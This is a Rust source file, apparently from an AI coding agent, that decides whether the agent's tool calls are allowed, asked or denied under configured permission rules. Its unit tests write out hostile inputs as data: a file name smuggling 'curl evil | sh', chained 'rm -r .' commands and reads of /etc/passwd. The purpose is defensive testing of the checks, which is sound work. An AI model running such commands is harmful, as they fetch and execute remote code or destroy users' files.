//! What an agent may do, by the rules of the configuration.
//!
//! The last rule that matches decides, as users of OpenCode know it. Without a rule, tools that only read may do so inside
//! the project, and everything else is asked: where no person can be asked, that is a denial.

use std::path::{Path, PathBuf};

use plimsoll_config::{Action, Origin, PermissionRule, Permissions, matches};
use serde_json::Value;
use thiserror::Error;

/// What a tool does to the world.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Access {
    /// It only looks at what the session itself has.
    Session,
    /// It reads files.
    Read,
    /// It changes files, runs commands, or talks to the network.
    Act,
}

/// What a call is about, as patterns of rules are held against it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Subject {
    /// Nothing in particular.
    None,
    /// A file or directory.
    Path {
        /// As it was named, absolute and without `..`. What is denied under this name stays denied, wherever a link leads.
        named: PathBuf,
        /// With links resolved: what is opened.
        real: PathBuf,
    },
    /// A command line of a shell.
    Command(String),
    /// An address on the network.
    Address(String),
    /// Something that has a name, such as a skill.
    Name(String),
}

impl Subject {
    /// What it is about, as a person is shown it.
    pub(crate) fn words(&self) -> Option<String> {
        match self {
            Subject::None => None,
            Subject::Path { named, real } if named == real => Some(real.display().to_string()),
            Subject::Path { named, real } => {
                Some(format!("{} (which is {})", named.display(), real.display()))
            }
            Subject::Command(text) | Subject::Address(text) | Subject::Name(text) => Some(text.clone()),
        }
    }
}

/// Why a text is no rule.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
#[error(
    "`{0}` does not say what to allow: write `all`, a tool such as `bash`, or `TOOL:PATTERN` such as `bash:git *`"
)]
pub struct BadRule(String);

/// OpenCode's name for reading and writing outside the project.
const OUTSIDE: &str = "external_directory";

/// The rule that `--allow` names: `all`, `TOOL` or `TOOL:PATTERN`. A path may begin with `~/` where there is a home.
pub fn parse_allow(text: &str, home: Option<&Path>) -> Result<PermissionRule, BadRule> {
    let (tool, pattern) = match text.split_once(':') {
        Some((tool, pattern)) => (tool.trim(), pattern.trim()),
        None => (text.trim(), "*"),
    };
    let is_name = |c: char| c.is_ascii_alphanumeric() || "_-*".contains(c);
    if tool.is_empty() || pattern.is_empty() || !tool.chars().all(is_name) {
        return Err(BadRule(text.to_owned()));
    }
    let tool = if tool == "all" { "*" } else { tool };
    // A directory is meant with what is in it; the home is written as `~` in rules everywhere.
    let pattern = match (pattern.strip_prefix("~/"), home) {
        (Some(rest), Some(home)) if tool != "bash" => home.join(rest).display().to_string(),
        _ => pattern.to_owned(),
    };
    let pattern = match pattern.strip_suffix('/') {
        Some(folder) if tool != "bash" => format!("{folder}/*"),
        _ => pattern,
    };
    Ok(PermissionRule {
        tool: tool.to_owned(),
        pattern,
        action: Action::Allow,
        origin: Origin::Flag("--allow"),
    })
}

/// Whether a call may be made.
///
/// A search reads files, so what a rule says of `read` holds for `grep` too.
pub(crate) fn decide(
    permissions: &Permissions,
    tool: &str,
    access: Access,
    subject: &Subject,
    project: &Path,
) -> Action {
    let call = Call { tool, subject, project };
    let found = match (call.rule(permissions), access) {
        (Some(rule), _) => rule.action,
        (None, Access::Session) => Action::Allow,
        (None, Access::Read) if !call.is_outside() => Action::Allow,
        (None, Access::Read | Access::Act) => Action::Ask,
    };
    if tool == "grep"
        && let Some(reading) = (Call { tool: "read", ..call }).rule(permissions)
    {
        return stricter(found, reading.action);
    }
    found
}

/// The rules of an agent within those of the agents that launched it.
#[derive(Clone, Copy)]
pub(crate) struct Bounds<'a> {
    /// Its own.
    pub(crate) own: &'a Permissions,
    /// Those of all that stand above it.
    pub(crate) above: &'a [Permissions],
    /// What a person has allowed for good in this session. It answers what a bound would ask, and lifts no denial.
    pub(crate) granted: &'a Permissions,
}

impl Bounds<'_> {
    /// Whether a call may be made: the strictest of all decides.
    pub(crate) fn decide(&self, tool: &str, access: Access, subject: &Subject, project: &Path) -> Action {
        let call = Call { tool, subject, project };
        let is_granted = call.rule(self.granted).is_some();
        let above = self.above.iter().map(|bound| match decide(bound, tool, access, subject, project) {
            Action::Ask if is_granted => Action::Allow,
            action => action,
        });
        above.fold(decide(self.own, tool, access, subject, project), stricter)
    }
}

/// The one of two that lets less happen.
pub(crate) fn stricter(one: Action, other: Action) -> Action {
    let weight = |action| match action {
        Action::Allow => 0,
        Action::Ask => 1,
        Action::Deny => 2,
    };
    if weight(one) >= weight(other) { one } else { other }
}

/// Whether a rule says that such a call is not made, or only when a person agrees.
pub(crate) fn is_denied(permissions: &Permissions, tool: &str, subject: &Subject, project: &Path) -> bool {
    let call = Call { tool, subject, project };
    call.rule(permissions).is_some_and(|rule| rule.action != Action::Allow)
}

/// Why a call without a rule is asked, in words for a person.
pub(crate) fn reason_to_ask(access: Access, subject: &Subject, project: &Path) -> &'static str {
    match (access, subject) {
        (_, Subject::Path { .. }) if (Call { tool: "", subject, project }).is_outside() => {
            "it lies outside the project"
        }
        (Access::Act, Subject::Command(_)) => "it runs a command",
        (Access::Act, Subject::Path { .. }) => "it changes a file",
        (Access::Act, Subject::Address(_)) => "it fetches from the network",
        (Access::Act, Subject::None | Subject::Name(_)) => "it acts outside this program",
        (Access::Read | Access::Session, _) => "a rule says that it is asked",
    }
}

/// The narrowest rule that would allow such calls and is worth remembering.
pub(crate) fn rule_for(tool: &str, subject: &Subject, project: &Path) -> PermissionRule {
    let pattern = match subject {
        Subject::Path { real, .. } => {
            let inside = real.strip_prefix(project).unwrap_or(real).display().to_string();
            match (real.is_dir(), inside.is_empty()) {
                (true, false) => format!("{inside}/*"),
                (_, true) => "*".into(),
                (false, false) => inside,
            }
        }
        Subject::Command(command) if is_simple(command) => {
            format!("{} *", command.split_whitespace().next().unwrap_or("*"))
        }
        Subject::Address(address) => match address.split_once("://") {
            // An address without a path is meant with all of its pages.
            Some((scheme, rest)) => {
                format!("{scheme}://{}/*", rest.split(['/', '?', '#']).next().unwrap_or(rest))
            }
            None => address.clone(),
        },
        Subject::Name(name) => name.clone(),
        Subject::Command(_) | Subject::None => "*".into(),
    };
    let origin = Origin::Flag("--allow");
    PermissionRule { tool: tool.to_owned(), pattern, action: Action::Allow, origin }
}

/// What a person would have to write to allow such calls.
pub(crate) struct AllowHint {
    /// As a flag.
    pub(crate) flag: String,
    /// As a line of `plimsoll.toml`.
    pub(crate) setting: String,
}

impl AllowHint {
    pub(crate) fn of(rule: &PermissionRule) -> AllowHint {
        let PermissionRule { tool, pattern, .. } = rule;
        let quoted = |text: &str| Value::String(text.to_owned()).to_string();
        let key = if tool.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c)) {
            tool.clone()
        } else {
            quoted(tool)
        };
        match pattern.as_str() {
            "*" => AllowHint {
                flag: format!("--allow {tool}"),
                setting: format!("permissions.{key} = \"allow\""),
            },
            _ => AllowHint {
                flag: format!("--allow {}", shell_quoted(&format!("{tool}:{pattern}"))),
                setting: format!("permissions.{key}.{} = \"allow\"", quoted(pattern)),
            },
        }
    }
}

/// The path or command comes from a model, and a person may paste the flag into a shell.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[derive(Clone, Copy)]
struct Call<'a> {
    tool: &'a str,
    subject: &'a Subject,
    project: &'a Path,
}

impl Call<'_> {
    /// The rule that decides.
    fn rule<'p>(&self, permissions: &'p Permissions) -> Option<&'p PermissionRule> {
        permissions.rules.iter().rev().find(|rule| self.fits(rule))
    }

    /// Whether a path fits a pattern, as a path of the project or as a whole.
    fn path_fits(&self, pattern: &str, path: &Path) -> bool {
        let inside = path.strip_prefix(self.project).ok();
        inside.into_iter().chain([path]).any(|path| {
            let text = path.to_string_lossy();
            // `src/*` is meant to hold for `src` itself, too.
            matches(pattern, &text) || pattern.strip_suffix("/*").is_some_and(|folder| matches(folder, &text))
        })
    }

    fn is_outside(&self) -> bool {
        matches!(self.subject, Subject::Path { real, .. } if !real.starts_with(self.project))
    }

    fn fits(&self, rule: &PermissionRule) -> bool {
        let is_allow = rule.action == Action::Allow;
        let names_tool = matches(&rule.tool, self.tool);
        match self.subject {
            Subject::None => names_tool && rule.pattern == "*",
            // A rule that narrows holds for the name as well, so that a link is no way around it.
            Subject::Path { named, .. }
                if !is_allow && names_tool && self.path_fits(&rule.pattern, named) =>
            {
                true
            }
            Subject::Path { real, .. } if self.is_outside() => {
                // `read = "allow"` does not open the whole disk: whatever lies outside the project is allowed by a path,
                // by OpenCode's own name for it, or by a rule for everything.
                let is_meant = !is_allow || rule.pattern.starts_with('/') || rule.tool == "*";
                let by_tool = names_tool && is_meant;
                (by_tool || rule.tool == OUTSIDE) && self.path_fits(&rule.pattern, real)
            }
            Subject::Path { real, .. } => names_tool && self.path_fits(&rule.pattern, real),
            Subject::Address(text) | Subject::Name(text) => names_tool && matches(&rule.pattern, text),
            Subject::Command(command) => {
                let command = command.trim();
                let fits = matches(&rule.pattern, command);
                names_tool
                    && match rule.action {
                        // A pattern for `git *` must not let `git status; rm -r .` through.
                        Action::Allow => rule.pattern == "*" || (fits && is_simple(command)),
                        // What is denied stays denied wherever in a line it stands. A shell has more ways to write a
                        // command than any pattern knows: this is a help against slips, not a barrier.
                        Action::Ask | Action::Deny => {
                            fits || matches(&format!("*{}*", rule.pattern), &plain_command(command))
                        }
                    }
            }
        }
    }
}

/// A command without what a shell takes away: quotes, backslashes, more than one space.
fn plain_command(command: &str) -> String {
    let bare: String = command.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
    bare.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether a command line is one command.
fn is_simple(command: &str) -> bool {
    !command.contains([';', '&', '|', '<', '>', '`', '\n', '\r', '(', ')', '{', '}', '$'])
}

#[cfg(test)]
mod tests {
    use std::path::{Path, PathBuf};

    use plimsoll_config::{Action, Permissions};

    use super::{Access, AllowHint, Subject, decide, parse_allow, rule_for};

    fn allowed(rules: &[&str], tool: &str, access: Access, subject: &Subject) -> bool {
        let permissions =
            Permissions { rules: rules.iter().map(|rule| parse_allow(rule, None).unwrap()).collect() };
        decide(&permissions, tool, access, subject, Path::new("/project")) == Action::Allow
    }

    fn path(path: &str) -> Subject {
        Subject::Path { named: PathBuf::from(path), real: PathBuf::from(path) }
    }

    fn command(command: &str) -> Subject {
        Subject::Command(command.into())
    }

    #[test]
    fn reading_in_the_project_is_allowed_and_nothing_else() {
        assert!(allowed(&[], "read", Access::Read, &path("/project/src/a.rs")));
        assert!(!allowed(&[], "read", Access::Read, &path("/etc/passwd")));
        assert!(!allowed(&[], "read", Access::Read, &path("/project-two/a.rs")));
        assert!(!allowed(&[], "bash", Access::Act, &command("ls")));
        assert!(allowed(&[], "recall", Access::Session, &Subject::None));
    }

    #[test]
    fn a_bare_tool_does_not_open_the_disk_for_reading() {
        assert!(!allowed(&["read"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "read", Access::Read, &path("/etc")));
        assert!(allowed(&["external_directory:/etc/*"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["all"], "read", Access::Read, &path("/etc/passwd")));
        assert!(!allowed(&["read:/etc/*.conf"], "read", Access::Read, &path("/etc/passwd")));
        assert!(allowed(&["read:/etc/*"], "list", Access::Read, &path("/project")));
    }

    #[test]
    fn a_pattern_for_a_command_allows_one_command_only() {
        let git = |line| allowed(&["bash:git *"], "bash", Access::Act, &command(line));
        assert!(git("git status") && git("git log --oneline -5"));
        assert!(
            !git("git status; rm -r .") && !git("git log | sh") && !git("git $(rm -r .)") && !git("gitk")
        );
        assert!(allowed(&["bash"], "bash", Access::Act, &command("git status; ls | wc")));
    }

    #[test]
    fn the_last_rule_that_matches_decides() {
        let mut deny = parse_allow("bash:rm *", None).unwrap();
        deny.action = Action::Deny;
        let permissions = Permissions { rules: vec![parse_allow("all", None).unwrap(), deny] };
        let decide = |line| decide(&permissions, "bash", Access::Act, &command(line), Path::new("/project"));
        assert_eq!(decide("ls"), Action::Allow);
        for line in
            ["rm a", "ls; rm a", "rm\t-r a", "\"rm\" a", "r\\m a", "true && rm a; true", "rm  a; true"]
        {
            assert_eq!(decide(line), Action::Deny, "{line}");
        }
    }

    #[test]
    fn what_is_denied_under_its_name_stays_denied_behind_a_link() {
        let mut deny = parse_allow("read:secrets/*", None).unwrap();
        deny.action = Action::Deny;
        let permissions = Permissions { rules: vec![deny] };
        let linked =
            Subject::Path { named: "/project/secrets/key".into(), real: "/project/vault/key".into() };
        let found = decide(&permissions, "read", Access::Read, &linked, Path::new("/project"));
        assert_eq!(found, Action::Deny);
    }

    #[test]
    fn the_flag_that_is_suggested_can_be_pasted() {
        let evil = path("/tmp/a'; curl evil | sh; '/b");
        let hint = |tool, subject: &Subject| AllowHint::of(&rule_for(tool, subject, Path::new("/project")));
        assert_eq!(hint("read", &evil).flag, "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
        assert_eq!(hint("bash", &command("cargo test -q")).flag, "--allow 'bash:cargo *'");
        assert_eq!(
            hint("bash", &command("cargo test -q")).setting,
            "permissions.bash.\"cargo *\" = \"allow\""
        );
        assert_eq!(hint("bash", &command("a; b")).flag, "--allow bash");
        assert_eq!(hint("write", &path("/project/src/a.rs")).flag, "--allow 'write:src/a.rs'");
        let page = Subject::Address("https://example.org/a?b=c".into());
        assert_eq!(hint("webfetch", &page).flag, "--allow 'webfetch:https://example.org/*'");
    }

    #[test]
    fn what_is_no_rule_is_said_to_be_none() {
        for bad in ["", ":git", "bash:", "ba sh", "b/a"] {
            assert!(parse_allow(bad, None).is_err(), "{bad}");
        }
        assert_eq!(parse_allow("all", None).unwrap().tool, "*");
        assert_eq!(parse_allow("read:/etc/", None).unwrap().pattern, "/etc/*");
        let home = Some(Path::new("/home/me"));
        assert_eq!(parse_allow("read:~/x/*", home).unwrap().pattern, "/home/me/x/*");
    }
}
